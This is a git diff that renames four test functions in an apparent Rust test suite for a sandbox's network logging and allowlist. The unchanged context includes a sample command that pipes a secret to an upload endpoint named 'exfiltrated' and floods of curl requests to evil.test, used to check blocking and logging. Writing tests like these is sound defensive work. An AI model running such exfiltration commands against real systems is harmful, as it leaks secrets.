@@ -30,7 +30,7 @@ fn json_log(project: &Project) -> Vec<Value> {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn refusals_cannot_push_an_upload_out_of_the_log() {
+async fn refusals_do_not_displace_an_upload_from_the_log() {
     let project = Project::new();
     // Some 4 KiB each and no two alike: more than there is room for what was refused.
     let script = "
@@ -61,7 +61,7 @@ echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_same_refusal_a_thousand_times_is_some_lines_and_a_count() {
+async fn repeated_refusal_is_logged_as_some_lines_and_a_count() {
     let project = Project::new();
     let ended = project.run("curl -s -o /dev/null 'http://evil.test/same?[1-1000]' ; curl -s -o /dev/null $(printf 'http://evil.test/same %.0s' {1..1000})");
     assert_eq!(ended.code, Some(0), "{ended:?}");
@@ -79,7 +79,7 @@ async fn the_same_refusal_a_thousand_times_is_some_lines_and_a_count() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn an_upload_whose_sandbox_is_killed_is_cut_off_and_on_record() {
+async fn upload_of_a_killed_sandbox_is_cut_off_and_logged() {
     let prefix = "e2e-record-killed";
     let project = Project::with_prefix(prefix);
     let script = "
@@ -110,7 +110,7 @@ sleep 600";
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn while_its_sandbox_is_stopped_a_task_reaches_nothing() {
+async fn task_of_a_stopped_sandbox_reaches_nothing() {
     let prefix = "e2e-record-stopped";
     let project = Project::with_prefix(prefix);
     project.write(".sandbox/network-allowlist.yaml", "domains: [stopped.test]\n");
